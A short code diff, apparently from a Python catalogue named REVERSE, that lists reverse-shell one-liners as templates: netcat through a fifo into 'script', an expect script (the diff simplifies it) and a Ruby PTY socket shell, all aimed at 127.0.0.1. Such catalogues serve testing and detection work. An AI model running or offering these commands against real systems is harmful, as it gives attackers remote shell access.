@@ -128,8 +128,7 @@ REVERSE = [
         "shell-behind-relay", "dash"),
     Way("script between pipes", "nc.openbsd 127.0.0.1 {port} <{fifo}|script -qc bash /dev/null >{fifo} 2>&1",
         "shell-on-remote-terminal", "bash"),
-    Way("expect", "exec expect -c 'spawn nc.openbsd 127.0.0.1 {port}; set n $spawn_id; spawn bash; set b $spawn_id;"
-        "expect {{ -i $n -re .+ {{ send -i $b $expect_out(buffer); exp_continue }} timeout {{ exp_continue }} }}'",
+    Way("expect", "exec expect -c 'spawn nc.openbsd 127.0.0.1 {port}; spawn bash; sleep 1000'",
         "shell-on-remote-terminal", "bash"),
     Way("ruby with a pty", "exec ruby -rsocket -rpty -e 's=TCPSocket.new(\"127.0.0.1\",{port});"
         "PTY.spawn(\"bash\"){{|r,w,p|IO.copy_stream(s,w)}}'", "shell-on-remote-terminal", "bash"),
